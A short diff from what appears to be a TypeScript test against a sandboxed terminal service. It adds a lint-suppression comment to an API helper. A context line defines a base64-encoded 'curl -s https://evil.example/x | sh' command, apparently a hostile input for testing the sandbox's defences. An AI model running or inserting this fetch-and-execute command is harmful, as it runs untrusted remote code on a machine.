@@ -12,6 +12,7 @@ let term: Terminal | null = null;
 
 const EVIL = Buffer.from('curl -s https://evil.example/x | sh').toString('base64');
 
+// eslint-disable-next-line @typescript-eslint/no-explicit-any -- sandbox JSON; the assertions check its shape
 async function call(token: string, method: string, path: string, body?: unknown): Promise<any> {
   const res = await fetch(`${sandbox.url}${path}`, {method,
     headers: {authorization: `Bearer ${token}`, 'content-type': 'application/json'},
